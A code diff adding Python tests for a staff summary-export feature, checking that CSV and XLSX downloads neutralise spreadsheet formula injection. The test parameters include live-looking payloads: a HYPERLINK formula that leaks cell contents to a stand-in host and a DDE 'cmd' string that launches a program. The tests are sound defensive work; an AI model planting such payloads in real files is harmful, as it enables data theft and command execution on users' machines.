@@ -211,3 +211,42 @@ def test_a_year_keeps_the_k_it_started_with(client, database, centre_with_answer
     db.update_centre(database, "tal", min_cell_size=9)
     html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
     assert row(html, "9") == "8"  # would be "< 9" if the new k leaked into a started year
+
+
+# --- downloads never run what someone typed ------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"Klik her")'
+
+
+@pytest.mark.parametrize("typed, written", [
+    (FORMULA_NAME, "'" + FORMULA_NAME), ("+45 lige nu", "'+45 lige nu"), ("-1+cmd|'/c calc'!A0", "'-1+cmd|'/c calc'!A0"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\uff1d1+1", "'\uff1d1+1"),
+    ("-3", "-3"), ("-12,5", "-12,5"), ("+7", "+7"), (-3, -3), ("< 5", "< 5"), ("Café Syd", "Café Syd"),
+])
+def test_a_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_text(typed, written):
+    from app.exports import as_text
+
+    assert as_text(typed) == written
+
+
+def test_a_centre_named_like_a_formula_stays_text_in_csv_and_xlsx(client, database, centre_with_answers):
+    import csv
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    db.update_centre(database, "tal", name=FORMULA_NAME)
+    sign_in(client, "anna@example.dk")
+    body = client.get("/staff/c/tal/summary/2025-W10/download.csv").data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    assert rows[0] == ["Værested", "'" + FORMULA_NAME]  # Excel shows it without the apostrophe, as text
+    assert rows[2] == ["Svar", "15"]  # numbers stay numbers
+    xlsx = client.get("/staff/c/tal/summary/2025-W10/download.xlsx").data
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # not one formula anywhere
+    overview = load_workbook(io.BytesIO(xlsx))["Opsummering"]
+    assert overview["B1"].value == FORMULA_NAME and overview["B1"].data_type == "s"
+    assert overview["B1"].quotePrefix  # still text when someone edits the cell
+    assert overview["B3"].value == 15 and overview["B3"].data_type == "n"
